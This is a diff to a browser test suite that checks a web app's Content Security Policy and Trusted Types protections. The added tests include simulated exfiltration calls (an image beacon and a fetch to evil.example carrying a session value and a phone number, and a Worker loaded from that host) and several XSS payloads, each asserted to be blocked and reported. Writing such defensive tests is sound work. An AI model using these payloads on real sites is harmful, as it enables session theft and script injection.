@@ -53,7 +53,7 @@ test('the build\'s CSP and the security headers are sent', async () => {
     // The inlined stylesheet is allowed by its hash only (no style attributes, no other inline CSS).
     assert.match(policy, /style-src 'self' 'sha256-[A-Za-z0-9+/=]+';/);
     assert.ok(!policy.includes('unsafe-inline'));
-    for (const d of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "default-src 'self'", "connect-src 'self'", 'report-uri /api/v1/csp-reports']) assert.ok(policy.includes(d), d);
+    for (const d of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "default-src 'self'", "connect-src 'self'", "require-trusted-types-for 'script'", 'trusted-types default', 'report-uri /api/v1/csp-reports']) assert.ok(policy.includes(d), d);
     assert.equal(h.get('x-content-type-options'), 'nosniff');
     assert.equal(h.get('referrer-policy'), 'no-referrer');
     assert.match(h.get('strict-transport-security'), /max-age=\d+/);
@@ -112,31 +112,66 @@ test('every route runs under the enforced CSP without a violation, in both langu
   assert.ok(!server.logs().includes('"csp_violation"'), 'the backend was sent no violation report');
 });
 
-test('a script injected into a page is blocked and reported to the backend, without the page\'s query string', async () => {
+test('what an injected script would do is blocked and reported to the backend, without the page\'s query string', async () => {
   const page = await watched();
   await page.goto(`${server.base}/track/${complaint}?lang=en#timeline`);
   await ready(page);
-  // What an extension, a hostile network or an XSS would do: add an inline script, and one from elsewhere.
-  await page.evaluate(() => {
+  // What an extension, a hostile network or an XSS would try: run inline code, and send what it
+  // read to another origin (an image beacon, a fetch).
+  const tried = await page.evaluate(async () => {
     const inline = document.createElement('script');
-    inline.textContent = 'window.__injected = 1';
-    document.body.append(inline);
-    const remote = document.createElement('script');
-    remote.src = 'https://evil.example/steal.js?session=abc';
-    document.body.append(remote);
+    let script = 'allowed';
+    try { inline.textContent = 'window.__injected = 1'; document.body.append(inline); } catch (e) { script = e.name; }
+    const img = document.createElement('img');
+    img.src = 'https://evil.example/beacon.gif?mobile=9833300001';
+    document.body.append(img);
+    let sent = 'sent';
+    await fetch('https://evil.example/collect?session=abc', { method: 'POST', body: 'x' }).catch(() => { sent = 'refused'; });
+    return { script, sent, ran: window.__injected };
   });
-  assert.equal(await page.evaluate(() => window.__injected), undefined, 'the inline script did not run');
+  assert.deepEqual(tried, { script: 'TypeError', sent: 'refused', ran: undefined });
   const reported = () => server.logs().split('\n').filter((l) => l.includes('"csp_violation"')).map((l) => JSON.parse(l));
-  for (let i = 0; i < 100 && reported().length < 2; i++) await page.waitForTimeout(100);
+  for (let i = 0; i < 100 && reported().length < 3; i++) await page.waitForTimeout(100);
   const got = reported();
-  assert.deepEqual(got.map((r) => r.blocked).sort(), ['https://evil.example', 'inline'], JSON.stringify(got));
+  assert.deepEqual(got.map((r) => `${r.directive} ${r.blocked}`).sort(),
+    ['connect-src https://evil.example', 'img-src https://evil.example', 'require-trusted-types-for trusted-types-sink'], JSON.stringify(got));
   for (const r of got) {
-    assert.match(r.directive, /^script-src/);
     assert.equal(r.page, `${server.base}/track/${complaint}`);
     assert.equal(r.disposition, 'enforce');
   }
-  assert.ok(!server.logs().includes('session=abc') && !server.logs().includes('lang=en'), 'no query string is logged');
-  assert.equal(await page.evaluate(() => window.__csp.length), 2, 'the page saw the same two');
+  // (The dev server prints its SMS outbox, mobiles included, to the same log: only the reports are read.)
+  const lines = JSON.stringify(got);
+  assert.ok(!lines.includes('session=abc') && !lines.includes('lang=en') && !lines.includes('9833300001'), 'no query string is logged');
+  assert.ok(!server.logs().includes('session=abc'));
+});
+
+test('Trusted Types: markup that could run script is refused by every HTML sink and reported; plain markup still works; no other policy can be made', async () => {
+  const page = await watched();
+  await page.goto(`${server.base}/track/${complaint}`);
+  await ready(page);
+  const before = server.logs().split('\n').filter((l) => l.includes('"require-trusted-types-for"')).length;
+  const outcome = await page.evaluate(() => {
+    const box = document.createElement('div');
+    document.body.append(box);
+    const attempt = (f) => { try { f(); return 'allowed'; } catch (e) { return e.name; } };
+    return {
+      plain: attempt(() => { box.innerHTML = '<b>bold</b> <a href="/track">track</a>'; }) + ' ' + box.querySelectorAll('b, a').length,
+      handler: attempt(() => { box.innerHTML = '<img src=x onerror="window.__tt=1">'; }),
+      script: attempt(() => { box.insertAdjacentHTML('beforeend', '<script>window.__tt=2</' + 'script>'); }),
+      link: attempt(() => { box.innerHTML = '<a href=" javascript:window.__tt=3">x</a>'; }),
+      svg: attempt(() => { box.innerHTML = '<svg><animate onbegin="window.__tt=4"/></svg>'; }),
+      worker: attempt(() => new Worker('https://evil.example/w.js')),
+      policy: attempt(() => trustedTypes.createPolicy('mine', { createHTML: (x) => x })),
+      ran: window.__tt,
+    };
+  });
+  assert.deepEqual(outcome, {
+    plain: 'allowed 2', handler: 'TypeError', script: 'TypeError', link: 'TypeError', svg: 'TypeError',
+    worker: 'TypeError', policy: 'TypeError', ran: undefined,
+  });
+  const reported = () => server.logs().split('\n').filter((l) => l.includes('"require-trusted-types-for"')).length - before;
+  for (let i = 0; i < 50 && reported() < 5; i++) await page.waitForTimeout(100);
+  assert.ok(reported() >= 5, `the refusals were reported to the backend (${reported()})`);
 });
 
 test('script and HTML in free text — typed or from the API — render as inert text', async () => {
